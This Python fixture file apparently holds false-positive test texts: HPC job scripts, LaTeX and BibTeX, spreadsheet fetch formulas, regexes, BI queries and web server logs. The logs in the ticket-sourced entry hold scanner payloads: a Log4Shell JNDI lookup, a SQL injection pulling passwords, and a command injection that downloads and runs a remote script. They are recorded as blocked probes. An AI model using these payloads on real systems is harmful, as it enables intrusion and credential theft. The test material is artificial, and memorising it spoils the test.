"""fpover19 texts: HPC job scripts, LaTeX and BibTeX, spreadsheet formulas that fetch data, web
server logs with scanners' probes in them, regexes and BI queries (own words)."""

from fp19_data import each

RESEARCH = [
    *each(
        "https://docs.hpc.university.example.edu/slurm/",
        "other",
        "#!/bin/bash\n#SBATCH --job-name=train-resnet\n#SBATCH --partition=gpu\n#SBATCH --gres=gpu:a100:2\n#SBATCH --time=12:00:00\n#SBATCH --mem=64G\n#SBATCH --output=logs/%x-%j.out\n\nmodule load cuda/12.1 python/3.11\nsource ~/venvs/torch/bin/activate\nsrun python train.py --config configs/resnet50.yaml",
    ),
    *each(
        "https://docs.hpc.university.example.edu/slurm/",
        "terminal",
        "sbatch train.sh\nsqueue -u $USER\nscontrol show job 4821937\nsacct -j 4821937 --format=JobID,Elapsed,MaxRSS,State",
        "module avail gcc\nmodule load gcc/13.2.0 openmpi/4.1.6\nmpirun -np 64 ./solver input.dat",
        "scp -r results/ netid@dtn.hpc.university.example.edu:/project/mylab/\nrsync -avP --partial bigdata/ netid@dtn.hpc.university.example.edu:/scratch/netid/",
    ),
    *each(
        "https://www.overleaf.com/learn/latex/Bibliography_management_with_biblatex",
        "other",
        "@article{vaswani2017attention,\n  title   = {Attention is All You Need},\n  author  = {Vaswani, Ashish and Shazeer, Noam and Parmar, Niki and others},\n  journal = {Advances in Neural Information Processing Systems},\n  volume  = {30},\n  year    = {2017},\n  url     = {https://arxiv.org/abs/1706.03762}\n}",
        "\\documentclass[11pt]{article}\n\\usepackage[utf8]{inputenc}\n\\usepackage{hyperref}\n\\usepackage[backend=biber]{biblatex}\n\\addbibresource{refs.bib}\n\\begin{document}\nSee \\url{https://github.com/acme-lab/dataset} for the data.\n\\printbibliography\n\\end{document}",
        "latexmk -pdf -shell-escape -interaction=nonstopmode main.tex",
    ),
    *each(
        "https://support.google.com/docs/answer/3093335",
        "other",
        '=IMPORTHTML("https://en.wikipedia.org/wiki/List_of_countries_by_population_(United_Nations)", "table", 1)',
        '=IMPORTDATA("https://data.cityofchicago.example/api/views/ijzp-q8t2/rows.csv?accessType=DOWNLOAD")',
        '=IMPORTXML("https://www.acme.example/pricing", "//span[@class=\'price\']")',
        '=GOOGLEFINANCE("NASDAQ:GOOG", "price", DATE(2024,1,1), DATE(2024,12,1), "WEEKLY")',
        '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789", "Budget!A1:F40")',
    ),
    *each(
        "https://support.microsoft.com/en-us/office/webservice-function-0546a35a-ecc6-4739-aed7-c0b7ce1562c4",
        "other",
        '=FILTERXML(WEBSERVICE("https://api.frankfurter.app/latest?from=EUR&to=USD&format=xml"), "//rate")',
        '=LET(url, "https://api.acme.example/v1/fx?base=EUR", WEBSERVICE(url))',
    ),
    *each(
        "https://acme.atlassian.net/browse/OPS-3312",
        "other",
        '203.0.113.45 - - [06/Dec/2024:09:11:58 +0000] "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0"\n198.51.100.23 - - [06/Dec/2024:09:12:03 +0000] "GET /?x=${jndi:ldap://198.51.100.23:1389/a} HTTP/1.1" 400 0 "-" "${jndi:ldap://198.51.100.23:1389/a}"\n192.0.2.77 - - [06/Dec/2024:09:12:40 +0000] "GET /.env HTTP/1.1" 404 153 "-" "curl/8.4.0"\nAll blocked by the WAF; no 200s on these paths.',
        "2024-12-06T09:14:22Z WARN  [waf] blocked request id=8f2c1e rule=942100 (SQLi) path=/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- ip=203.0.113.88\n2024-12-06T09:14:23Z WARN  [waf] blocked request id=8f2c1f rule=932100 (RCE) path=/cgi-bin/status?cmd=;wget%20http://203.0.113.88/x.sh;sh%20x.sh ip=203.0.113.88",
        "fail2ban status sshd:\n|- Filter\n|  |- Currently failed: 3\n|  `- Total failed: 2481\n`- Actions\n   |- Currently banned: 12\n   `- Banned IP list: 203.0.113.4 198.51.100.77 192.0.2.19",
    ),
    *each(
        "https://regex101.com/r/Xk3m9P/1",
        "other",
        r"^(?<user>[a-z0-9._%+-]+)@(?<domain>[a-z0-9.-]+\.[a-z]{2,})$",
        r"(?i)\b(?:https?://)?(?:www\.)?github\.com/([\w.-]+)/([\w.-]+?)(?:\.git)?(?:/|$)",
    ),
    *each(
        "https://app.powerbi.com/groups/me/reports/4f1e2d3c",
        "other",
        "Revenue YoY % =\nVAR Curr = [Total Revenue]\nVAR Prev = CALCULATE([Total Revenue], SAMEPERIODLASTYEAR('Date'[Date]))\nRETURN DIVIDE(Curr - Prev, Prev)",
        'let\n    Source = Web.Contents("https://api.acme.example/v1/orders", [Query=[since="2024-11-01"], Headers=[Authorization="Bearer " & ApiKey]]),\n    Json = Json.Document(Source),\n    Table = Table.FromRecords(Json[items])\nin\n    Table',
    ),
]
